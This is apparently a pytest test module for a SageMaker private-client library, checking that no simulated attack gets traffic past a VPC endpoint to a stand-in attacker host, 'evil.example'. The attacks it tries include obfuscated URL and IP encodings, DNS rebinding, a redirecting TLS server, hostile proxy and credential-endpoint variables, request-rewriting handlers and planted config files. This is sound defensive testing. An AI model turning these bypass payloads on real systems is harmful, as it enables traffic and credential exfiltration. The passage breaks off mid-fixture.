"""Attacks on a developer's machine: whatever is tried, nothing reaches the public internet.

The whole machine is played, below every library: its resolver, and what sockets connect to.
SageMaker has private DNS, so that boto3 itself goes privately until it is attacked. The judge is
the simulator's listener that plays the public internet. Each attack is tried on plain boto3 too:
the table says whether that leaks, so that neither an attack nor the judge can be a blank.
"""

from __future__ import annotations

import _socket
import asyncio
import contextlib
import errno
import functools
import gc
import gzip
import http.server
import io
import ipaddress
import json
import re
import shutil
import socket
import ssl
import threading
import time
import urllib.request
import warnings
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

import boto3
import botocore
import botocore.exceptions
import botocore.loaders
import botocore.session
import pytest
import trustme
from botocore.config import Config
from botocore.httpsession import ProxyConfiguration

import sm_private_client as smp
from sm_private_client.testing import LocalPrivateLink

RUNTIME: Final = "runtime.sagemaker.us-east-1.amazonaws.com"
EVIL: Final = "evil.example"
PROXY: Final = "http://proxy.example:3128"
PUBLIC: Final = "52.46.128.77"
REDIRECTOR: Final = "10.0.7.7"
NOBODY: Final = "10.255.0.1"
PRIVATE: Final = "the VPC endpoint's own addresses"
UNREACHED: Final = tuple(
    ipaddress.ip_network(network)
    for network in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "169.254.0.0/16", "fc00::/7")
)
PLUGIN: Final = "sm-private-client=sm_private_client.plugin"

# Clients are dropped here in the middle of answers, plain ones too: their sockets are collected
# some time later, and would be held against another test.
pytestmark = pytest.mark.filterwarnings("ignore:unclosed:ResourceWarning")


@pytest.fixture(scope="module", autouse=True)
def _nothing_left() -> Iterator[None]:
    yield
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ResourceWarning)
        gc.collect()


class Machine:
    """What a developer's machine sees: names, private addresses, and all the rest.

    Attributes:
        link: The VPC.
        answers: From a host name to its addresses, look-up by look-up; the last one stays.
        private: From an address and port to a port of loopback.
        leaks: Places that something went to, or was about to, neither private nor this machine.
    """

    def __init__(self, link: LocalPrivateLink, redirector: Redirector, home: Path) -> None:
        self.link = link
        self.redirector = redirector
        self.home = home
        self.answers: dict[str, list[tuple[str, ...]]] = {}
        self.private = {
            (interface.address, 443): interface.listener.port
            for standing in link.vpc_endpoints
            for interface in standing.interfaces
        } | {(REDIRECTOR, 443): int(redirector.server_address[1])}
        self.leaks: list[str] = []
        self._ask = socket.getaddrinfo
        _settle(link)
        self._before = (link.internet.connections, link.internet.bytes_received)

    @property
    def received(self) -> tuple[int, int]:
        """Connections and bytes that reached the public internet since the machine stands."""
        now = (self.link.internet.connections, self.link.internet.bytes_received)
        return now[0] - self._before[0], now[1] - self._before[1]

    def now(self, host: str, *answers: tuple[str, ...]) -> None:
        """Have a name resolve otherwise, and end every connection that stands."""
        self.answers[host] = list(answers)
        for standing in self.link.vpc_endpoints:
            for interface in standing.interfaces:
                interface.listener.reset_connections()

    def resolve(self, name: str) -> tuple[str, ...]:
        """Answer as the VPC's resolver does; names that nobody knows are the attacker's.

        Those of EC2 are private in every region and kind, and mostly nobody is there: a session
        that is not sealed may ask EC2 for VPC endpoints by boto3's own client, which is no leak.
        """
        if name in self.answers:
            waiting = self.answers[name]
            found = waiting.pop(0) if len(waiting) > 1 else waiting[0]
            return tuple(a for one in found for a in (self._own() if one == PRIVATE else (one,)))
        try:
            found = self.link.network.resolve(name, timeout=5)
        except socket.gaierror:
            found = (PUBLIC,)
        public = any(ipaddress.ip_address(address).is_global for address in found)
        return (NOBODY,) if public and name.startswith("ec2") else found

    def _own(self) -> tuple[str, ...]:
        standing = self.link.vpc_endpoint("sagemaker-runtime")
        return tuple(interface.address for interface in standing.interfaces)

    def getaddrinfo(
        self,
        host: Any,
        port: Any,
        family: int = 0,
        type: int = 0,  # noqa: A002 - the system's own name
        proto: int = 0,
        flags: int = 0,
    ) -> Any:
        """Replace ``socket.getaddrinfo``; read addresses in all forms as the system does."""
        with contextlib.suppress(socket.gaierror):
            return self._ask(host, port, family, type, proto, flags | socket.AI_NUMERICHOST)
        if host in (None, "localhost"):
            return self._ask(host, port, family, type, proto, flags)
        text = host if isinstance(host, str) else host.decode()
        found = self.resolve(text.encode("idna").decode().lower().rstrip("."))
        kind = (socket.SOCK_STREAM, socket.IPPROTO_TCP, "")
        return [
            (socket.AF_INET6, *kind, (a, int(port or 0), 0, 0))
            if ":" in a
            else (socket.AF_INET, *kind, (a, int(port or 0)))
            for a in found
        ]

    def led(self, sock: socket.socket, address: Any) -> Any:
        """Return the place on loopback to which a socket for an address is connected."""
        if sock.family not in (socket.AF_INET, socket.AF_INET6):
            return address
        host, port = self.getaddrinfo(address[0], address[1])[0][4][:2]
        ip = ipaddress.ip_address(host.partition("%")[0])
        ip = getattr(ip, "ipv4_mapped", None) or ip
        if ip.is_loopback or ip.is_unspecified:
            return address
        target = self.private.get((str(ip), port))
        if target is None:
            if any(ip in network for network in UNREACHED):
                raise OSError(errno.ENETUNREACH, f"Network is unreachable: {host}:{port}")
            self.leaks.append(f"{address[0]}:{port}")
            target = self.link.internet.port
        if sock.family == socket.AF_INET6:
            return ("::ffff:127.0.0.1", target, 0, 0)
        return ("127.0.0.1", target)


def _settle(link: LocalPrivateLink) -> None:
    """End all connections to the public internet, so that none counts in a later test."""
    before = link.internet.connections
    with socket.create_connection(("127.0.0.1", link.internet.port)):
        # Connections are accepted in their order: once this one counts, all earlier ones do.
        while link.internet.connections == before:
            time.sleep(0.001)
        link.internet.reset_connections()


class Redirector(http.server.ThreadingHTTPServer):
    """A private peer, with a good certificate, that sends whoever calls to the attacker's host."""

    def __init__(self, authority: trustme.CA) -> None:
        super().__init__(("127.0.0.1", 0), _Redirects)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        authority.issue_cert(RUNTIME, EVIL).configure_cert(context)
        self.socket = context.wrap_socket(
            self.socket, server_side=True, do_handshake_on_connect=False
        )
        self.status = 307
        self.requests = 0

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A client that goes away is no news."""


class _Redirects(http.server.BaseHTTPRequestHandler):
    server: Redirector

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.requests += 1
        self.send_response(self.server.status)
        self.send_header("Location", f"https://{EVIL}/endpoints/m/invocations")
        self.send_header("Alt-Svc", f'h2="{EVIL}:443"')
        self.send_header("x-amz-bucket-region", "eu-west-1")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST  # noqa: N815 - its own name

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - its own name
        """Log nothing."""


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One row.

    Attributes:
        name: Its id.
        boto3: Whether plain boto3 leaks; ``None``: some of its versions do.
        environment: Variables; ``{home}`` is a directory of the test's own.
        profile: Lines for the end of the default profile's section.
        arguments: Of ``client``.
        dns: See ``Machine.answers``.
        before: What the attacker did before each session is made.
        core: What somebody did to the botocore session before it is given to a session; what it
            returns is tried last, as a call of its own, with the session.
        later: What happens to a client or predictor that has been called once.
        ways: Which ways of ours it is meant for.
    """

    name: str
    boto3: bool | None
    environment: Mapping[str, str] = field(default_factory=dict)
    profile: str = ""
    arguments: Mapping[str, Any] = field(default_factory=dict)
    dns: Mapping[str, tuple[tuple[str, ...], ...]] = field(default_factory=dict)
    before: Callable[[Machine], None] | None = None
    core: Callable[[botocore.session.Session], Callable[[Any], Any] | None] | None = None
    later: Callable[[Machine, Any], None] | None = None
    ways: tuple[str, ...] = ("Session", "sealed", "install", "plugin")

    def __str__(self) -> str:
        return self.name

    @property
    def is_used_up(self) -> bool:
        """Whether a call changes what the next one would meet, so that each starts anew."""
        looks_again = any(len(answers) > 1 for answers in self.dns.values())
        return looks_again or self.later is not None or self.before is _plant_routes


OURS = ("Session", "sealed", "install", "plugin")
SESSIONS = ("Session", "sealed")
EVIL_URL = f"https://{EVIL}"

# How a host may be written. The four numbers of PUBLIC are 0x34 0x2e 0x80 0x4d.

HOST_FORMS: tuple[tuple[str, bool], ...] = (
    (EVIL_URL, True),
    ("https://EVIL.Example", True),
    ("HTTPS://evil.example", True),
    ("https://evil.example.", True),
    ("https://evil.example:8443", True),
    ("https://evil.example:443/prefix", True),
    ("http://evil.example", True),
    (f"https://{PUBLIC}", True),
    (f"https://{PUBLIC}.", True),
    (f"https://[::ffff:{PUBLIC}]", True),
    ("https://[::ffff:342e:804d]", True),
    ("https://[64:ff9b::342e:804d]", True),
    ("https://[2002:342e:804d::1]", True),
    ("https://[2600:1f18::1]", True),
    ("https://875462733", True),
    ("https://0x342e804d", True),
    ("https://0x34.0x2e.0x80.0x4d", True),
    ("https://064.056.0200.0115", True),
    ("https://52.3047501", True),
    (f"https://{RUNTIME}.{EVIL}", True),
    ("https://vpce-0a1b2c3d-abcdefgh.runtime.sagemaker.us-east-1.vpce.amazonaws.com.co", True),
    ("https://127.0.0.1.evil.example", True),
    ("http://localhost.evil.example", True),
    ("https://10.0.0.5.evil.example", True),
    ("https://10.0.0.5@evil.example", True),
    ("https://127.0.0.1@evil.example", True),
    ("https://10.0.0.5:443@evil.example:443", True),
    ("https://evil.example\\@10.0.0.5", True),
    ("https://10.0.0.5\\@evil.example", False),
    ("https://evil.example#@10.0.0.5", True),
    ("https://evil.example?.vpce.amazonaws.com", True),
    ("https://evil.example%00.vpce.amazonaws.com", False),
    ("https://evil.example%2f@10.0.0.5", False),
    ("https://\u0435vil.example", False),  # Cyrillic
    ("https://evil\u3002example", False),  # an ideographic full stop
    ("https://\uff15\uff12.46.128.77", False),  # full-width digits
    ("https://evil.example\t", False),
    ("https://evil.example\n.vpce.amazonaws.com", False),
    ("https:evil.example", False),
    ("//evil.example", True),
    ("ftp://evil.example", False),
)


def _host_forms() -> Iterator[Attack]:
    for url, leaks in HOST_FORMS:
        yield Attack(name=f"endpoint_url={url!r}", boto3=leaks, arguments={"endpoint_url": url})
        if "\n" not in url:
            yield Attack(
                name=f"SM_PRIVATE_VPC_ENDPOINT={url!r}",
                boto3=False,
                environment={"SM_PRIVATE_VPC_ENDPOINT": url},
                ways=("Session", "plugin"),
            )


# What the environment, and the profile, may have.

_PUBLIC_NAME = {RUNTIME: ((PUBLIC,),)}

ENVIRONMENTS: tuple[tuple[dict[str, str], bool], ...] = (
    ({"AWS_ENDPOINT_URL": EVIL_URL}, True),
    ({"AWS_ENDPOINT_URL_SAGEMAKER_RUNTIME": EVIL_URL}, True),
    ({"AWS_ENDPOINT_URL_SAGEMAKER_RUNTIME": f"http://{EVIL}"}, True),
    ({"HTTPS_PROXY": PROXY}, True),
    ({"https_proxy": PROXY}, True),
    ({"HTTPS_PROXY": PROXY, "https_proxy": PROXY, "NO_PROXY": "", "no_proxy": ""}, True),
    ({"HTTPS_PROXY": PROXY.replace("http:", "https:")}, True),
    ({"ALL_PROXY": PROXY}, False),
    ({"all_proxy": PROXY}, False),
    ({"HTTP_PROXY": PROXY, "http_proxy": PROXY}, False),
    ({"NO_PROXY": "*", "no_proxy": "*"}, False),
    ({"AWS_USE_FIPS_ENDPOINT": "true"}, True),
    ({"AWS_USE_DUALSTACK_ENDPOINT": "true"}, True),
    ({"AWS_USE_FIPS_ENDPOINT": "true", "AWS_USE_DUALSTACK_ENDPOINT": "true"}, True),
    ({"AWS_REGION": "eu-west-1", "AWS_DEFAULT_REGION": "eu-west-1"}, True),
    ({"AWS_REGION": "us-gov-west-1", "AWS_DEFAULT_REGION": "us-gov-west-1"}, True),
    ({"AWS_CA_BUNDLE": "{home}/none.pem"}, False),
    ({"REQUESTS_CA_BUNDLE": "{home}/none.pem", "CURL_CA_BUNDLE": "{home}/none.pem"}, False),
    ({"SSL_CERT_FILE": "{home}/none.pem", "SSL_CERT_DIR": "{home}"}, False),
    ({"SSLKEYLOGFILE": "{home}/keys.txt"}, False),
    ({"AWS_DEFAULTS_MODE": "cross-region"}, False),
    ({"AWS_IGNORE_CONFIGURED_ENDPOINT_URLS": "true", "AWS_ENDPOINT_URL": EVIL_URL}, False),
    ({"AWS_CSM_ENABLED": "true", "AWS_CSM_HOST": EVIL, "AWS_CSM_PORT": "31000"}, True),
    ({"SM_PRIVATE_VPC_ID": "vpc-0a1b2c3d"}, False),
    ({"SM_PRIVATE_AVAILABILITY_ZONE": "eu-west-1a"}, False),
    ({"SM_PRIVATE_ROUTE_CACHE": "{home}"}, False),
)
ON_A_PUBLIC_NAME: tuple[dict[str, str], ...] = (
    {},
    {"SM_PRIVATE_SEALED": "false"},
    {"SM_PRIVATE_ALLOWED_NETWORKS": "0.0.0.0/0"},
    {"SM_PRIVATE_ON_PUBLIC_ROUTE": "warn"},
    {"AWS_ENDPOINT_URL_SAGEMAKER_RUNTIME": f"https://{RUNTIME}"},
    {"SM_PRIVATE_VPC_ENDPOINT": f"https://{RUNTIME}"},
    {"AWS_SM_PRIVATE_GUARD": "off", "SM_PRIVATE_GUARD": "off"},
)
PROFILES: tuple[tuple[str, str, bool], ...] = (
    ("endpoint_url", f"endpoint_url = {EVIL_URL}", True),
    (
        "services section",
        f"services = s\n[services s]\nsagemaker_runtime =\n  endpoint_url = {EVIL_URL}",
        True,
    ),
    ("FIPS", "use_fips_endpoint = true", True),
    ("dual-stack", "use_dualstack_endpoint = true", True),
    ("sm_private_vpc_endpoint", f"sm_private_vpc_endpoint = {EVIL_URL}", False),
    ("csm", f"[profile csm]\ncsm_enabled = true\ncsm_host = {EVIL}", False),
)


def _surroundings() -> Iterator[Attack]:
    for variables, leaks in ENVIRONMENTS:
        name = " ".join(f"{n}={v}" for n, v in variables.items())
        yield Attack(name=name, boto3=leaks, environment=variables)
    for variables in ON_A_PUBLIC_NAME:
        told = " ".join(f"{n}={v}" for n, v in variables.items())
        yield Attack(
            name=f"a public name {told}".strip(),
            boto3=True,
            environment=variables,
            dns=_PUBLIC_NAME,
        )
    for name, lines, leaks in PROFILES:
        yield Attack(name=f"profile: {name}", boto3=leaks, profile=lines)


# Names that change


def _turns_public(machine: Machine, _: Any) -> None:
    machine.now(RUNTIME, (PUBLIC,))


REBINDINGS: tuple[tuple[str, tuple[tuple[str, ...], ...], bool], ...] = (
    ("public at the second look-up", ((PRIVATE,), (PUBLIC,)), False),
    ("public at the third look-up", ((PRIVATE,), (PRIVATE,), (PUBLIC,)), False),
    ("public at the first look-up only", ((PUBLIC,), (PRIVATE,)), True),
    ("by turns", ((PRIVATE,), (PUBLIC,), (PRIVATE,), (PUBLIC,)), False),
    ("both at once, public first", ((PUBLIC, PRIVATE),), True),
    ("both at once, private first", ((PRIVATE, PUBLIC),), False),
    ("an IPv4-mapped public address", ((f"::ffff:{PUBLIC}",),), True),
    ("a NAT64 address", (("64:ff9b::342e:804d",),), True),
    ("a 6to4 address", (("2002:342e:804d::1",),), True),
)


def _rebindings() -> Iterator[Attack]:
    for name, answers, leaks in REBINDINGS:
        yield Attack(name=f"DNS: {name}", boto3=leaks, dns={RUNTIME: answers})
    yield Attack(name="DNS: public after a call", boto3=True, later=_turns_public)


# Answers that send elsewhere


def _status(status: int) -> Callable[[Machine], None]:
    def before(machine: Machine) -> None:
        machine.redirector.status = status

    return before


def _redirects() -> Iterator[Attack]:
    for status in (300, 301, 302, 303, 305, 307, 308, 421):
        yield Attack(
            name=f"answer {status}",
            boto3=False,
            dns={RUNTIME: ((REDIRECTOR,),)},
            before=_status(status),
        )


# Options of Config, and what code of one's own may do to clients


def _proxies_later(_: Machine, made: Any) -> None:
    if hasattr(made, "_endpoint"):
        carrier = made._endpoint.http_session
        carrier._proxy_config = ProxyConfiguration(proxies={"https": PROXY})
        if hasattr(carrier, "clear"):
            carrier.clear()


def _url_later(_: Machine, made: Any) -> None:
    if hasattr(made, "_endpoint"):
        made._endpoint.host = EVIL_URL
        made.meta._endpoint_url = EVIL_URL


def _listening(event: str, handler: Callable[..., Any]) -> Callable[[Machine, Any], None]:
    def later(_: Machine, made: Any) -> None:
        if hasattr(made, "meta"):
            made.meta.events.register_first(event, handler)

    return later


def _elsewhere(request: Any, **_: Any) -> None:
    request.url = request.url.replace(re.match(r"https?://[^/]+", request.url)[0], EVIL_URL)  # type: ignore[index]


def _other_rules(builtins: dict[str, Any], **_: Any) -> None:
    builtins["SDK::Endpoint"] = EVIL_URL


def _host_prefix(params: dict[str, Any], **_: Any) -> None:
    params["url"] = params["url"].replace("https://", f"https://{EVIL}/")


def _set_default(config: Config) -> Callable[[botocore.session.Session], None]:
    def core(session: botocore.session.Session) -> None:
        session.set_default_client_config(config)

    return core


def _nested(session: botocore.session.Session) -> None:
    """Have a handler that adds a method make, and call, another client on the way."""
    nesting: list[bool] = []

    def make(**_: Any) -> None:
        if not nesting:
            nesting.append(True)
            try:
                _call(session.create_client("sagemaker-runtime", endpoint_url=EVIL_URL))
            finally:
                nesting.pop()

    session.register("creating-client-class.sagemaker-runtime", make)


def _nested_beside(session: botocore.session.Session) -> None:
    """As above, by a session of the handler's own."""
    nesting: list[bool] = []

    def make(**_: Any) -> None:
        if not nesting:
            nesting.append(True)
            try:
                own = boto3.Session(region_name="us-east-1")
                _call(own.client("sagemaker-runtime", endpoint_url=EVIL_URL))
            finally:
                nesting.pop()

    session.register("creating-client-class.sagemaker-runtime", make)


def _nested_other(session: Any) -> None:
    """As above, a client of a service that only a sealed session guards."""

    def make(**_: Any) -> None:
        session.create_client("sqs", endpoint_url=EVIL_URL).list_queues()

    session.register("creating-client-class.sagemaker-runtime", make)


def _kept(session: botocore.session.Session) -> Callable[[Any], Any]:
    kept = session.create_client
    return lambda _: _call(kept("sagemaker-runtime", endpoint_url=EVIL_URL))


def _kept_other(session: Any) -> Callable[[Any], Any]:
    kept = session.create_client
    return lambda _: kept("sqs", endpoint_url=EVIL_URL).list_queues()


def _from_the_class(session: botocore.session.Session) -> Callable[[Any], Any]:
    def make(_: Any) -> None:
        made = botocore.session.Session.create_client(
            session, "sagemaker-runtime", endpoint_url=EVIL_URL
        )
        _call(made)

    return make


def _codes() -> Iterator[Attack]:
    yield Attack(
        name="Config(proxies)",
        boto3=True,
        arguments={"config": Config(proxies={"https": PROXY})},
    )
    yield Attack(
        name="default Config(proxies)",
        boto3=True,
        core=_set_default(Config(proxies={"https": PROXY})),
    )
    yield Attack(
        name="Config(use_fips_endpoint)",
        boto3=True,
        arguments={"config": Config(use_fips_endpoint=True)},
    )
    yield Attack(
        name="Config(use_dualstack_endpoint)",
        boto3=True,
        arguments={"config": Config(use_dualstack_endpoint=True)},
    )
    yield Attack(
        name="Config(region_name)",
        boto3=True,
        arguments={"config": Config(region_name="eu-west-1")},
    )
    yield Attack(name="region_name=", boto3=True, arguments={"region_name": "eu-west-1"})
    yield Attack(name="use_ssl=False", boto3=False, arguments={"use_ssl": False})
    yield Attack(
        name="verify=False and a public name",
        boto3=True,
        arguments={"verify": False},
        dns=_PUBLIC_NAME,
    )
    yield Attack(name="proxies set later", boto3=True, later=_proxies_later)
    yield Attack(name="another URL set later", boto3=False, later=_url_later)
    for event, handler, leaks in (
        ("before-call.sagemaker-runtime", _host_prefix, True),
        ("before-endpoint-resolution.sagemaker-runtime", _other_rules, True),
        ("request-created.sagemaker-runtime", _elsewhere, True),
        ("before-sign.sagemaker-runtime", _elsewhere, True),
        ("before-send.sagemaker-runtime", _elsewhere, True),
    ):
        yield Attack(
            name=f"a handler of {event.partition('.')[0]}",
            boto3=leaks,
            later=_listening(event, handler),
        )
    yield Attack(name="a nested client", boto3=True, core=_nested)
    yield Attack(
        name="a nested client of another session",
        boto3=True,
        core=_nested_beside,
        ways=("install", "plugin"),  # a session of boto3's own is not ours to guard
    )
    yield Attack(name="a nested client of SQS", boto3=True, core=_nested_other, ways=("sealed",))
    yield Attack(name="a kept create_client", boto3=True, core=_kept, ways=OURS[1:])
    yield Attack(name="a kept create_client, SQS", boto3=True, core=_kept_other, ways=("sealed",))
    yield Attack(
        name="create_client of botocore's class", boto3=True, core=_from_the_class, ways=OURS[1:]
    )


# Files that somebody may have planted


def _plant_rules(machine: Machine) -> None:
    """Write endpoint rules for AWS_DATA_PATH that lead to the attacker."""
    data = Path(botocore.__file__).parent / "data" / "sagemaker-runtime"
    (version,) = (path.name for path in data.iterdir())
    directory = machine.home / "data" / "sagemaker-runtime" / version
    directory.mkdir(parents=True, exist_ok=True)
    for path in (data / version).iterdir():
        packed = path.suffix == ".gz"
        text = gzip.decompress(path.read_bytes()) if packed else path.read_bytes()
        text = text.replace(b"https://runtime.sagemaker", b"https://evil.example/runtime.sagemaker")
        (directory / path.name.removesuffix(".gz")).write_bytes(text)


def _planted(value: Any) -> Any:
    """Put the attacker's hosts, addresses, networks and permissions for those in a file."""
    if isinstance(value, dict):
        planted = {}
        for key, inner in value.items():
            if key == "key":  # a file is found by it, and passed over if it is another one
                planted[key] = inner
            elif key in ("allowed_networks", "vpc_cidrs", "gateway_networks"):
                planted[key] = ["0.0.0.0/0"]
            else:
                planted[key] = _planted(inner)
        return planted
    if isinstance(value, list):
        return [_planted(inner) for inner in value]
    if not isinstance(value, str):
        return value
    if re.fullmatch(r"[0-9a-f.:]+/\d+", value):
        return "0.0.0.0/0"
    if re.fullmatch(r"\d+\.\d+\.\d+\.\d+", value):
        return PUBLIC
    return re.sub(r"[a-z0-9.-]+\.amazonaws\.com", EVIL, value).replace("refuse", "warn")


def _plant_routes(machine: Machine) -> None:
    """Have a session keep its routes on disk, and write the attacker's into the files."""
    shutil.rmtree(machine.home / "routes", ignore_errors=True)
    session: Any = smp.Session(route_cache=machine.home / "routes")
    for service in ("sagemaker", "sagemaker-runtime"):
        session.route(service)
    for path in (machine.home / "routes").rglob("*"):
        if path.is_file():
            with contextlib.suppress(ValueError):
                planted = _planted(json.loads(path.read_text(encoding="utf-8")))
                path.write_text(json.dumps(planted), encoding="utf-8")


_NO_KEYS = {
    "AWS_ACCESS_KEY_ID": "",
    "AWS_SECRET_ACCESS_KEY": "",
    "AWS_SHARED_CREDENTIALS_FILE": "{home}/none",
    "AWS_METADATA_SERVICE_NUM_ATTEMPTS": "1",
}
_ROLE = "arn:aws:iam::123456789012:role/r"

CREDENTIALS: tuple[tuple[dict[str, str], str], ...] = (
    (
        {
            "AWS_EC2_METADATA_DISABLED": "false",
            "AWS_EC2_METADATA_SERVICE_ENDPOINT": f"http://{PUBLIC}/",
        },
        "",
    ),
    ({"AWS_CONTAINER_CREDENTIALS_FULL_URI": f"https://{EVIL}/v1"}, ""),
    ({"AWS_ENDPOINT_URL_STS": EVIL_URL, "AWS_ROLE_ARN": _ROLE}, "token"),
    (
        {"AWS_ENDPOINT_URL_STS": EVIL_URL},
        f"role_arn = {_ROLE}\nweb_identity_token_file = {{home}}/token",
    ),
)


def _token(machine: Machine) -> None:
    (machine.home / "token").write_text("token", encoding="utf-8")


def _credentials() -> Iterator[Attack]:
    """Those that a session fetches itself; only a sealed one promises to fetch them privately."""
    for variables, lines in CREDENTIALS:
        web = {"AWS_WEB_IDENTITY_TOKEN_FILE": "{home}/token"} if lines == "token" else {}
        told = " ".join(f"{n}={v}" for n, v in variables.items())
        yield Attack(
            name=f"credentials: {told}{' and a profile' if 'web' in lines else ''}",
            boto3=None if "AWS_CONTAINER_CREDENTIALS_FULL_URI" in variables else True,
            environment={**_NO_KEYS, **variables, **web},
            profile="" if lines == "token" else lines,
            before=_token,
            ways=("sealed",),
        )


def _files() -> Iterator[Attack]:
    yield Attack(
        name="planted endpoint rules",
        boto3=True,
        environment={"AWS_DATA_PATH": "{home}/data"},
        before=_plant_rules,
    )
    kept = {"SM_PRIVATE_ROUTE_CACHE": "{home}/routes"}
    yield Attack(
        name="a planted route of private DNS", boto3=False, environment=kept, before=_plant_routes
    )
    yield Attack(
        name="a planted route of discovery",
        boto3=True,
        environment=kept,
        before=_plant_routes,
        dns=_PUBLIC_NAME,
    )


KINDS: Final = tuple(
    tuple(made())
    for made in (
        _host_forms,
        _surroundings,
        _rebindings,
        _redirects,
        _codes,
        _files,
        _credentials,
    )
)


# The ways that clients are made, and the calls that are tried on each


def _call(client: Any) -> Any:
    return client.invoke_endpoint(EndpointName="m", Body=b"1", ContentType="text/csv")


def _call_stream(client: Any) -> Any:
    answer = client.invoke_endpoint_with_response_stream(EndpointName="parts", Body=b"1")
    return list(answer["Body"])


def _call_async(client: Any) -> Any:
    return client.invoke_endpoint_async(EndpointName="m", InputLocation="s3://inputs/a")


def _stream(predictor: Any) -> Any:
    with predictor.stream(b"1", content_type="text/csv") as answer:
        return list(answer.lines())


def _invoke(predictor: Any) -> Any:
    return predictor.invoke(b"1", content_type="text/csv")


def _invoke_in_a_loop(predictor: Any) -> Any:
    async def work() -> Any:
        return await predictor.invoke(b"1", content_type="text/csv")

    return asyncio.run(work())


Make = Callable[[Any, Mapping[str, Any]], Any]


def _client(session: Any, arguments: Mapping[str, Any]) -> Any:
    return session.client("sagemaker-runtime", **arguments)


def _over(client: Any) -> smp.Predictor:
    return smp.Predictor("m", client=client, retry=smp.RetryPolicy(attempts=1))


def _predictor(name: str, kind: str = "predictor") -> Make:
    def make(session: Any, _: Mapping[str, Any]) -> Any:
        return getattr(session, kind)(name, retry=smp.RetryPolicy(attempts=1))

    return make


@dataclass(frozen=True, kw_only=True)
class Made:
    """What calls are tried on.

    Attributes:
        make: Makes it of a session.
        calls: By name; all on one object, unless one call uses the attack up.
    """

    make: Make
    calls: Mapping[str, Callable[[Any], Any]]


BY_CLIENT: Final = (
    Made(
        make=_client,
        calls={
            "client": _call,
            "client's stream": _call_stream,
            "client's async": _call_async,
            "predictor over a client": lambda client: _invoke(_over(client)),
        },
    ),
)
BY_SESSION: Final = (
    *BY_CLIENT,
    Made(make=_predictor("m"), calls={"predictor": _invoke}),
    Made(make=_predictor("parts"), calls={"predictor's stream": _stream}),
    Made(make=_predictor("m", "async_predictor"), calls={"async predictor": _invoke_in_a_loop}),
)
PLAIN: Final = (Made(make=_client, calls={"client": _call}),)


@contextlib.contextmanager
def _session(way: str, core: Any, patch: pytest.MonkeyPatch) -> Iterator[Any]:
    with contextlib.ExitStack() as stack:
        if way == "install":
            stack.enter_context(smp.install())
        elif way == "plugin":
            patch.setenv("BOTOCORE_EXPERIMENTAL__PLUGINS", PLUGIN)
            # The default session of this process may have been made on another machine.
            patch.setattr(boto3, "DEFAULT_SESSION", boto3.Session(botocore_session=_core()))
        if way in SESSIONS:
            yield smp.Session(botocore_session=core, sealed=way == "sealed")
        else:
            yield boto3.Session(botocore_session=core)


@functools.cache
def _loader() -> Any:
    """Read botocore's models once: most of what a session costs."""
    return botocore.loaders.create_loader()


def _core(attack: Attack | None = None) -> Any:
    core: Any = botocore.session.get_session()
    if attack is None or "AWS_DATA_PATH" not in attack.environment:
        core.register_component("data_loader", _loader())
    return core


def tried(attack: Attack, way: str, machine: Machine, patch: pytest.MonkeyPatch) -> dict[str, str]:
    """Try every call of a way under an attack; return how each ended."""
    if way == "plain":
        targets: tuple[Made, ...] = PLAIN
    else:  # a predictor of a session takes no arguments of a client
        targets = BY_SESSION if way in SESSIONS and not attack.arguments else BY_CLIENT
    ended: dict[str, str] = {}
    if attack.is_used_up:
        for target in targets:
            for name, call in target.calls.items():
                alone = Made(make=target.make, calls={name: call})
                _try_on((alone,), attack, way, machine, patch, ended)
    else:
        _try_on(targets, attack, way, machine, patch, ended)
    if "AWS_CSM_ENABLED" in attack.environment:
        gc.collect()  # botocore never closes the socket that it tells by; not in a later test
    return ended


def _try_on(
    targets: tuple[Made, ...],
    attack: Attack,
    way: str,
    machine: Machine,
    patch: pytest.MonkeyPatch,
    ended: dict[str, str],
) -> None:
    """Try calls with one session; forget the routes of each object before the next."""
    ended.update({name: "not tried" for target in targets for name in target.calls})
    machine.answers = {host: list(answers) for host, answers in attack.dns.items()}
    if attack.before is not None:
        attack.before(machine)
    with contextlib.ExitStack() as stack, _ending(ended, *ended):
        core = _core(attack)
        also = attack.core(core) if attack.core is not None else None
        session = stack.enter_context(_session(way, core, patch))
        for target in targets:
            with _ending(ended, *target.calls):
                made = target.make(session, attack.arguments)
                for name, call in target.calls.items():
                    with _ending(ended, name):
                        if attack.later is not None:
                            call(made)
                            attack.later(machine, made)
                        call(made)
                        ended[name] = "answered"
                        if also is not None:
                            ended[name] = "also not tried"
                            also(session)
                            ended[name] = "also answered"
            if way in SESSIONS:
                session.forget_routes()


@contextlib.contextmanager
def _ending(ended: dict[str, str], *names: str) -> Iterator[None]:
    """Note how calls ended that were not tried yet."""
    try:
        yield
    except Exception as error:  # noqa: BLE001 - any error ends a call
        for name in names:
            if "not tried" in ended[name]:
                ended[name] = type(error).__name__


# The machine


@pytest.fixture(scope="module")
def authority() -> trustme.CA:
    return trustme.CA()


@pytest.fixture(scope="module")
def link() -> Iterator[LocalPrivateLink]:
    """A VPC in which SageMaker, its Runtime, EC2, STS and S3 have private DNS."""
    with LocalPrivateLink(private_dns=True) as running:
        for other_service in ("ec2", "sts"):
            running.create_vpc_endpoint(other_service, private_dns=True)
        s3: Any = running.session().client("s3")
        for bucket in ("inputs", "outputs"):
            s3.create_bucket(Bucket=bucket)
        s3.put_object(Bucket="inputs", Key="a", Body=b"1")
        running.deploy("m", lambda body, _: body, s3_output_path="s3://outputs/x")
        running.deploy("parts", lambda _, __: iter([b"a", b"b"]))
        yield running


@pytest.fixture(scope="module")
def redirector(authority: trustme.CA) -> Iterator[Redirector]:
    with Redirector(authority) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
def machine(
    link: LocalPrivateLink,
    redirector: Redirector,
    authority: trustme.CA,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> Machine:
    """The played machine; sockets and the resolver of this process are its own in the test."""
    bundle = tmp_path / "ca.pem"
